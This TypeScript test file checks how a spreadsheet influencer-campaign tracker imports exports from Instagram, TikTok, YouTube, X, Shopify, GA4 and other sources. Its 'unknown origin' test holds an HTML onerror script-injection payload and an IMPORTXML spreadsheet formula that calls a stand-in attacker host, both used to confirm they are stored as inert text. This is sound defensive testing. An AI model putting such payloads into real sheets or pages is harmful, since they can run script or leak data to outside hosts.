/**
 * Each recognised export imported into a tracker with posts to update, values worked out by
 * hand from the fixture files (test/fixtures/exports): what is updated, what is added, what is
 * kept; importing the same file again changes nothing.
 */
import { describe, expect, it } from "vitest";
import { reportForPage } from "../../../src/features/report/report";
import { workbookSnapshot } from "../../../src/local/in-memory/snapshot";
import { env } from "../../sheets/helpers";
import {
  FIRST,
  fixture,
  importFile,
  lastRow,
  POSTS,
  read,
  row,
  type StandIn,
  summary,
  testTracker,
} from "./helpers";

/** Imports a fixture twice: the second time must change nothing, not one cell. */
function twice(standIn: StandIn, name: string, choose = {}) {
  const first = summary(importFile(standIn.port, name, choose));
  const rows = lastRow(standIn);
  const before = JSON.stringify(workbookSnapshot(standIn.spreadsheet));
  const again = summary(importFile(standIn.port, name, choose));
  expect(again.added + again.updated, `${name} imported again`).toBe(0);
  expect(lastRow(standIn)).toBe(rows);
  expect(JSON.stringify(workbookSnapshot(standIn.spreadsheet)), `${name} imported again`).toBe(
    before,
  );
  return { first, again };
}

describe("Instagram posts (Meta Business Suite, UTF-8 with BOM)", () => {
  it("updates two posts by their links, adds two, lists the cell it cannot read", () => {
    const standIn = testTracker();
    const { first, again } = twice(standIn, "instagram-posts.csv", { campaign: "Spring Glow" });
    expect([first.added, first.updated, first.unchanged]).toEqual([2, 2, 0]);
    expect(again.unchanged).toBe(4);
    // Row 3 through ?igsh=… on its link: Views replace views (never impressions).
    expect(row(standIn, 3)).toMatchObject({
      impressions: "",
      views: 6100,
      reach: 4800,
      likes: 342,
      shares: 6,
      comments: 23,
      saves: 14,
      postDate: "2026-03-20",
      notes: "Story + reel",
      postUrl: "https://www.instagram.com/p/ANNA001abc/",
    });
    // Row 4, a /reel/ link: reach "—" in the file keeps 5200; the formula-like caption is
    // never read (Description is left out).
    expect(row(standIn, 4)).toMatchObject({
      views: 8250,
      reach: 5200,
      likes: 455,
      comments: 33,
      saves: 22,
    });
    // New posts: the known handle names Anna Berg; an unknown account its own name.
    expect(row(standIn, 9)).toMatchObject({
      campaign: "Spring Glow",
      influencer: "Anna Berg",
      handle: "@anna.berg",
      platform: "Instagram",
      postDate: "2026-04-02",
      postUrl: "https://www.instagram.com/p/ANNA003new/",
      views: 12_500,
      reach: 9400,
      likes: 610,
      shares: 12,
      comments: 41,
      saves: 57,
    });
    expect(row(standIn, 10)).toMatchObject({
      influencer: "New Creator",
      handle: "@newcreator",
      views: 900,
      reach: "",
      likes: 70,
    });
  });

  it("lists the unreadable cell with its row, column, value and why; a check writes nothing", () => {
    const standIn = testTracker();
    const { reading } = read(standIn.port, fixture("instagram-posts.csv"));
    expect(reading.read.problems).toEqual([
      {
        line: 5,
        column: "Reach",
        value: "abc",
        problem: { key: "problem.textNotNumber", params: { text: '"abc"' } },
        asText: false,
      },
    ]);
    const checked = summary(
      importFile(standIn.port, "instagram-posts.csv", { campaign: "Spring Glow" }, true),
    );
    expect([checked.added, checked.updated, checked.written]).toEqual([2, 2, false]);
    expect(lastRow(standIn)).toBe(FIRST + POSTS.length - 1);
    expect(row(standIn, 3).views).toBe(5000);
  });

  it("waits for a campaign for new posts, and writes nothing", () => {
    const standIn = testTracker();
    const outcome = importFile(standIn.port, "instagram-posts.csv");
    expect(outcome.ok).toBe(false);
    if (!outcome.ok) expect(outcome.problems[0]).toContain("(2)");
    expect(row(standIn, 3).views).toBe(5000);
  });
});

describe("Instagram in Spanish, numbers grouped with dots", () => {
  it("reads 6.100 as 6100 once the reader says a comma marks decimals", () => {
    const standIn = testTracker();
    twice(standIn, "instagram-posts-es.csv", { decimal: "," });
    expect(row(standIn, 3)).toMatchObject({ views: 6100, reach: 4800, likes: 342 });
    expect(row(standIn, 4)).toMatchObject({ views: 8250, reach: 5300, likes: 455 });
  });
});

describe("Facebook posts, UTF-16 with a sep= line and a title line", () => {
  it("updates Eva's post: reactions are likes, link clicks are clicks", () => {
    const standIn = testTracker();
    const { first } = twice(standIn, "facebook-posts-utf16.csv");
    expect([first.added, first.updated]).toEqual([0, 1]);
    expect(row(standIn, 8)).toMatchObject({
      views: 4100,
      reach: 2900,
      likes: 104,
      comments: 15,
      shares: 6,
      clicks: 25,
    });
  });
});

describe("TikTok Studio, XLSX", () => {
  it("turns Ben's text likes into a number and adds his new video under his name", () => {
    const standIn = testTracker({ timeZone: "Asia/Tokyo" });
    const { first } = twice(standIn, "tiktok-content.xlsx", { campaign: "Spring Glow" });
    expect([first.added, first.updated]).toEqual([1, 1]);
    expect(row(standIn, 5)).toMatchObject({
      likes: 1300,
      comments: 95,
      shares: 52,
      views: 24_500,
      postDate: "2026-03-22",
    });
    expect(row(standIn, 9)).toMatchObject({
      influencer: "Ben Cole",
      handle: "@bencole",
      platform: "TikTok",
      postDate: "2026-04-03",
      likes: 2150,
      views: 40_100,
    });
  });
});

describe("YouTube Studio table data, semicolons, a sep= line and a Total row", () => {
  it("finds the video by its id, keeps the user's formula, leaves the Total row out", () => {
    const standIn = testTracker();
    const { first } = twice(standIn, "youtube-table-data.csv", {
      campaign: "Spring Glow",
      influencer: "Cara Diaz",
    });
    expect([first.added, first.updated]).toEqual([1, 1]);
    expect(first.kept).toEqual([{ row: 6, key: "likes", formula: "=100+20" }]);
    expect(row(standIn, 6)).toMatchObject({
      views: 9150,
      impressions: 31_000,
      likes: "=100+20",
      comments: 19,
      shares: 6,
    });
    expect(row(standIn, 9)).toMatchObject({
      influencer: "Cara Diaz",
      platform: "YouTube",
      postUrl: "https://www.youtube.com/watch?v=NEWVID12345",
      postDate: "2026-04-08",
      views: 3500,
      impressions: 10_000,
    });
  });
});

describe("X analytics", () => {
  it("matches x.com to twitter.com links and names the new post's author by the link", () => {
    const standIn = testTracker();
    const { first } = twice(standIn, "x-analytics.csv", { campaign: "Spring Glow" });
    expect([first.added, first.updated]).toEqual([1, 1]);
    expect(row(standIn, 7)).toMatchObject({
      impressions: 9800,
      shares: 7,
      comments: 5,
      likes: 61,
      clicks: 36,
    });
    expect(row(standIn, 9)).toMatchObject({
      influencer: "Dev Iyer",
      handle: "@deviyer",
      platform: "X",
      postDate: "2026-03-29",
    });
  });
});

describe("a Danish tracker's own export: semicolons, decimal commas, day-first dates", () => {
  it("updates the cost, adds Frida's post, leaves out the totals and computed columns", () => {
    const standIn = testTracker();
    const { first } = twice(standIn, "tracker-da.csv");
    expect([first.added, first.updated]).toEqual([1, 1]);
    expect(row(standIn, 3)).toMatchObject({ cost: 450, revenue: 150, notes: "Story + reel" });
    expect(row(standIn, 9)).toMatchObject({
      campaign: "Spring Glow",
      influencer: "Frida Holm",
      postDate: "2026-04-02",
      followers: 8400,
      revenue: 39.9,
      cost: 120,
      notes: "Ny influencer",
    });
  });
});

describe("Shopify orders", () => {
  it("credits each code's orders, from their first rows, to its influencer's first row", () => {
    const standIn = testTracker();
    const { first } = twice(standIn, "shopify-orders.csv");
    // Anna: #1001 59.90 and #1002 120.00 less 20.00 refunded; #1006 is in EUR.
    expect(row(standIn, 3)).toMatchObject({ orders: 2, revenue: 159.9 });
    expect(row(standIn, 4)).toMatchObject({ orders: 0, revenue: 0 });
    // Ben: #1003; #1007 was voided.
    expect(row(standIn, 5)).toMatchObject({ orders: 1, revenue: 45.5 });
    // Cara's only order was refunded in full: her row is not touched.
    expect(row(standIn, 6)).toMatchObject({ orders: 0, revenue: 0 });
    expect(first.sales?.attributed).toEqual([
      expect.objectContaining({
        keys: ["ANNA10"],
        influencer: "Anna Berg",
        row: 3,
        orders: 2,
        revenue: 159.9,
        cleared: [4],
      }),
      expect.objectContaining({
        keys: ["BEN10"],
        influencer: "Ben Cole",
        row: 5,
        orders: 1,
        revenue: 45.5,
        cleared: [],
      }),
    ]);
    expect(first.sales?.unmatched).toEqual([
      { key: "WELCOME5", records: 1, revenue: 30, owners: [] },
      { key: "", records: 1, revenue: 80, owners: [] },
    ]);
    expect(first.skipped.map((s) => s.reason.key)).toEqual([
      "import.sales.currency",
      "import.sales.cancelled",
      "import.sales.refunded",
    ]);
  });

  it("makes every figure count each sale once: the totals row sums the shop's revenue", () => {
    const standIn = testTracker();
    importFile(standIn.port, "shopify-orders.csv");
    const totals = standIn.spreadsheet.sheetNamed("Campaign Tracker")?.getRange(2, 18).getValue();
    // 159.90 + 0 + 45.50 + 0 + (Dev: none) + 35 (Eva, untouched).
    expect(totals).toBeCloseTo(240.4, 6);
    // The report adds up the same rows: Anna's sales once over her two posts, which stay two.
    const view = reportForPage(
      standIn.port,
      { campaign: "Spring Glow", from: null, to: null },
      env(),
    );
    if (!view.ok) throw new Error(view.message);
    const figure = view.model.figures.find((f) => f.key === "revenue");
    expect(figure?.value).toBeCloseTo(240.4, 6);
    const anna = view.model.breakdowns.influencer.find((line) => line.name === "Anna Berg");
    expect(anna?.posts).toBe(2);
    expect(anna?.roas).toBeCloseTo(159.9 / 800, 6);
    const ben = view.model.breakdowns.influencer.find((line) => line.name === "Ben Cole");
    expect(ben?.roas).toBeCloseTo(45.5 / 250, 6);
  });
});

describe("GA4 traffic by session campaign", () => {
  it("credits sessions, key events and revenue by utm_campaign; lists what matches several or no one", () => {
    const standIn = testTracker();
    const { first } = twice(standIn, "ga4-campaigns.csv");
    expect(row(standIn, 3)).toMatchObject({ clicks: 340, conversions: 12, revenue: 410.5 });
    expect(row(standIn, 4)).toMatchObject({ clicks: 0, conversions: 0, revenue: 0 });
    expect(row(standIn, 5)).toMatchObject({ clicks: 120, conversions: 3, revenue: 45.5 });
    // spring_shared is Cara's and Dev's: left for the reader, their rows untouched.
    expect(row(standIn, 6)).toMatchObject({ clicks: 40, conversions: 2 });
    expect(first.sales?.unmatched).toEqual([
      {
        key: "spring_shared",
        records: 1,
        revenue: 0,
        owners: ["Cara Diaz · Spring Glow", "Dev Iyer · Spring Glow"],
      },
      { key: "(direct)", records: 1, revenue: 9800, owners: [] },
      { key: "(not set)", records: 1, revenue: 0, owners: [] },
    ]);
  });
});

describe("a file of unknown origin", () => {
  it("guesses each column from its header, and imports text as text", () => {
    const standIn = testTracker();
    const { first } = twice(standIn, "unknown-creators.csv", { campaign: "Spring Glow" });
    expect([first.added, first.updated]).toEqual([1, 1]);
    expect(row(standIn, 3)).toMatchObject({
      views: 6100,
      likes: 342,
      cost: 400,
      notes: "Story + reel",
    });
    expect(row(standIn, 9)).toMatchObject({
      influencer: "<img src=x onerror=alert(1)>",
      handle: "@newface",
      platform: "TikTok",
      views: 15_000,
      likes: 900,
      cost: 300,
      notes: '=IMPORTXML("http://evil.example","//a")',
    });
  });

  it("follows a changed mapping: a column left out is not written", () => {
    const standIn = testTracker();
    // Fee (USD), the sixth column, left out; Plays to impressions instead of views.
    const mapping = [
      "influencer",
      "postUrl",
      "postDate",
      "impressions",
      "likes",
      null,
      "notes",
    ] as const;
    summary(
      importFile(standIn.port, "unknown-creators.csv", {
        campaign: "Spring Glow",
        mapping: [...mapping],
      }),
    );
    expect(row(standIn, 3)).toMatchObject({ impressions: 6100, views: 5000, cost: 400 });
    expect(row(standIn, 9)).toMatchObject({ impressions: 15_000, views: "", cost: "" });
  });
});

describe("nothing half-written, the user's columns untouched", () => {
  it("keeps a user's column between the tracker's, and the rows below the import", () => {
    const standIn = testTracker();
    const sheet = standIn.spreadsheet.sheetNamed("Campaign Tracker");
    sheet?.insertColumnsAfter(6, 1);
    sheet?.getRange(1, 7).setValue("My notes");
    sheet?.getRange(3, 7).setValue("call back");
    sheet?.getRange(5, 7).setValue("=1+1");
    summary(importFile(standIn.port, "instagram-posts.csv", { campaign: "Spring Glow" }));
    expect(sheet?.getRange(3, 7).getValue()).toBe("call back");
    expect(sheet?.getRange(5, 7).getFormula()).toBe("=1+1");
    expect(sheet?.getRange(9, 7).getValue()).toBe("");
    // Views sit one column further right now.
    expect(sheet?.getRange(3, 10).getValue()).toBe(6100);
    expect(env().language()).toBe("en");
  });
});
